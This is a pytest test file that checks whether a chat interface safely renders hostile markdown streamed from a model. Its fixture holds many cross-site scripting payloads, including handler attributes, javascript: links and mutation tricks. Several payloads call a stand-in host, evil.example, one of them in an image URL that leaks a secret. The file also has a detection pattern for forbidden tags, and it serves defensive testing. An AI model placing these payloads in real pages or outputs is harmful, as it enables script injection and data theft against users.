"""Nothing that a model writes is run, and nothing is fetched for it."""

import pytest

HOSTILE = """
<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 1"> <svg onload="window.pwned = 1"></svg> <body onload="window.pwned = 1">

<iframe src="https://evil.example/frame"></iframe> <iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>

<object data="https://evil.example/o"></object> <embed src="https://evil.example/e">

<link rel="stylesheet" href="https://evil.example/l.css"> <style>@import url(https://evil.example/s.css);</style>

<meta http-equiv="refresh" content="0; url=https://evil.example/"> <base href="https://evil.example/">

<form action="https://evil.example/f"><input name=q autofocus onfocus="window.pwned = 1"><button>Send</button></form>

<div style="background: url(https://evil.example/b.png)">styled</div>

<p hx-get="/accounts/logout/" hx-trigger="load">x</p>

![](https://evil.example/i.png?q=secret) ![alt](//evil.example/i2.png) ![x](data:image/svg+xml;base64,PHN2Zy8+)

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x) [file](file:///etc)

[mixed](JaVaScRiPt:window.pwned=1) [tab](java&#09;script:window.pwned=1) <javascript:window.pwned=1>

[good](https://good.example/page) <a href="https://good.example/" target="_self" onclick="window.pwned=1">raw</a>

<video src="https://evil.example/v" autoplay></video> <audio src="https://evil.example/a"></audio>

<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>

```html
<script>window.pwned = 1</script><img src="https://evil.example/code.png">
```

`<img src=x onerror=window.pwned=1>`

| a | b |
|---|---|
| <img src=x onerror="window.pwned=1"> | ![](https://evil.example/t.png) |

<!-- <script>window.pwned = 1</script> -->

<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>

[ref]: javascript:window.pwned=1
[ref] The end.
"""


def pieces(size):
    return [HOSTILE[at : at + size] for at in range(0, len(HOSTILE), size)]


FORBIDDEN = """() => [...document.querySelectorAll("[data-content] *")].flatMap(element => [
    ...(/^(script|style|iframe|object|embed|img|svg|link|meta|base|form|input|video|audio)$/i.test(element.tagName)
        ? [element.tagName] : []),
    ...[...element.attributes].map(({ name }) => name).filter(name => /^(on|style$|src|hx-|data-hx)/i.test(name)),
    ...(element.href && !/^(https?|mailto):/i.test(element.href) ? [element.href] : []),
])"""


def assert_harmless(chat):
    assert chat.page.evaluate("window.pwned") is None
    assert chat.foreign_requests() == []
    assert chat.dialogs == []
    assert chat.page.evaluate(FORBIDDEN) == []


@pytest.mark.parametrize("size", [1, 7, 100_000])
def test_hostile_markdown_runs_and_fetches_nothing(chat, provider, size):
    exchange = provider.expect()
    chat.open().ask(exchange.prompt)
    exchange.write_tokens(*pieces(size)).finish()
    chat.see_status("complete").see("The end.")
    assert_harmless(chat)
    chat.reload().see("The end.")
    assert_harmless(chat)


def test_links_send_no_referrer(chat, provider):
    exchange = provider.expect()
    chat.open().ask(exchange.prompt)
    exchange.write_tokens("[good](https://good.example/page)").finish()
    chat.see_status("complete")
    link = chat.content.get_by_role("link", name="good")
    assert link.get_attribute("href") == "https://good.example/page"
    assert set(link.get_attribute("rel").split()) >= {"noopener", "noreferrer", "nofollow"}


def test_hostile_prompt_and_title_are_text(chat, provider):
    exchange = provider.expect()
    chat.open().ask(f"{exchange.prompt} <img src=x onerror='window.pwned=1'><script>window.pwned=1</script>")
    exchange.write_tokens("Fine.").finish()
    chat.see_status("complete")
    assert_harmless(chat)
    chat.reload().see("Fine.")
    assert_harmless(chat)
